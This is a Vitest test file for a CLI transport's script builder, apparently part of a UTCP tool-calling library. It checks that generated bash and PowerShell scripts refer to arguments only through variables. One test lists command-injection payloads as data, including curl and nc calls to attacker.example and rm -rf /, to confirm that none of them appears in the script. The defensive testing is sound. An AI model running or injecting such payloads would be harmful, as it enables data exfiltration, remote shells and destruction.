import { describe, expect, it } from 'vitest';
import { buildBashScript, buildPowerShellScript } from '../../src/transports/cli/build-script.js';
import { rewritePlaceholders } from '../../src/transports/cli/rewrite-placeholders.js';
import { CliTransport } from '../../src/transports/cli/index.js';
import { createTestContext } from '../helpers/context.js';
import { cliTemplate } from '../fixtures/cli/harness.js';

const N = '00112233445566ff';

describe('bash script layout', () => {
  it('wraps each step in a { } group writing to stdout, then a marker, and before a next step an acknowledgement and CMD_<i>_OUTPUT', () => {
    expect(buildBashScript(['cd /tmp', 'echo "$CMD_0_OUTPUT"'], N)).toBe(
      [
        'exec 4>&1',
        `trap 'printf "\\n%s:end\\n" "$__UTCP_MARK_${N}" >&4' EXIT`,
        '{',
        'cd /tmp',
        '} >&4 2>&1 3<&- 4>&-',
        `printf '\\n%s:0\\n' "$__UTCP_MARK_${N}" >&4`,
        'IFS= read -r __utcp_ack <&3 || exit 125',
        `CMD_0_OUTPUT=$(<"$__UTCP_OUT_${N}/0")`,
        '{',
        'echo "$CMD_0_OUTPUT"',
        '} >&4 2>&1 3<&- 4>&-',
        '__utcp_rc=$?',
        `printf '\\n%s:1\\n' "$__UTCP_MARK_${N}" >&4`,
        'exit $__utcp_rc',
        '',
      ].join('\n'),
    );
  });

  it('never contains argument values, only references', () => {
    const payloads = [
      'data.csv; curl http://attacker.example',
      'data.csv && rm -rf /',
      'data.csv | nc attacker.example 9999',
      'data.csv `id`',
      'data.csv $(id)',
      'data.csv"; echo pwned; "',
      'value with spaces',
      "value'with'quote",
      '"; rm -rf /; "',
    ];
    const command = `tool UTCP_ARG_a_UTCP_END "UTCP_ARG_a_UTCP_END" 'UTCP_ARG_a_UTCP_END'`;
    const script = buildBashScript([rewritePlaceholders(command, 'bash', N).text], N);
    for (const p of payloads) expect(script).not.toContain(p);
    expect(script).toContain(`tool "$__UTCP_ARG_${N}_a" "\${__UTCP_ARG_${N}_a}" ''"$__UTCP_ARG_${N}_a"''`);
  });
});

describe('PowerShell script layout', () => {
  it('dot-sources each step, captures its output and writes the appended ones', () => {
    const script = buildPowerShellScript(['Set-Location C:\\work', 'tool.exe ${env:__UTCP_ARG_x_a}'], [true, true]);
    expect(script).toBe(
      [
        '$ErrorActionPreference = "Stop"',
        '[Console]::OutputEncoding = [System.Text.UTF8Encoding]::new($false)',
        '$global:LASTEXITCODE = 0',
        '$CMD_0_OUTPUT = . {',
        'Set-Location C:\\work',
        '} 2>&1 | Out-String',
        '$global:LASTEXITCODE = 0',
        '$CMD_1_OUTPUT = . {',
        'tool.exe ${env:__UTCP_ARG_x_a}',
        '} 2>&1 | Out-String',
        '$__utcp_rc = $LASTEXITCODE',
        'Write-Output ((@($CMD_0_OUTPUT, $CMD_1_OUTPUT) | ForEach-Object { ([string]$_).TrimEnd("`r", "`n") }) -join "`n")',
        'exit $__utcp_rc',
        '',
      ].join('\n'),
    );
  });

  it('writes nothing when no step is appended', () => {
    expect(buildPowerShellScript(['a'], [false])).not.toContain('Write-Output');
  });

  it('never contains argument values, only ${env:…} references', () => {
    const text = rewritePlaceholders('tool UTCP_ARG_a_UTCP_END "x UTCP_ARG_b_UTCP_END"', 'powershell', N).text;
    const script = buildPowerShellScript([text], [true]);
    expect(script).toContain(`tool \${env:__UTCP_ARG_${N}_a} "x \${env:__UTCP_ARG_${N}_b}"`);
    expect(script).not.toContain('UTCP_ARG_a_UTCP_END');
  });
});

describe('PowerShell selection on win32', () => {
  it('refuses a single-quoted placeholder before starting anything', async () => {
    const transport = new CliTransport(createTestContext(), { platform: 'win32' });
    const tool = {
      name: 'demo.t',
      description: '',
      inputs: {},
      outputs: {},
      tags: [],
      tool_call_template: { call_template_type: 'cli' },
    };
    const options = { signal: new AbortController().signal, manualName: 'demo', rawTemplate: tool.tool_call_template };
    await expect(
      transport.callTool(tool, { a: 'x' }, cliTemplate("Write-Output 'UTCP_ARG_a_UTCP_END'"), options),
    ).rejects.toThrow(/single-quoted/);
    await transport.close();
  });

  it.skipIf(process.platform === 'win32')(
    'starts powershell.exe (absent here, so the start fails with a clear error)',
    async () => {
      const transport = new CliTransport(createTestContext(), {
        platform: 'win32',
        hostEnv: { PATH: process.env.PATH },
      });
      const tool = {
        name: 'demo.t',
        description: '',
        inputs: {},
        outputs: {},
        tags: [],
        tool_call_template: { call_template_type: 'cli' },
      };
      const options = {
        signal: new AbortController().signal,
        manualName: 'demo',
        rawTemplate: tool.tool_call_template,
      };
      await expect(
        transport.callTool(tool, { a: 'x' }, cliTemplate('Write-Output UTCP_ARG_a_UTCP_END'), options),
      ).rejects.toThrow(/cannot start powershell\.exe/);
      await transport.close();
    },
  );
});
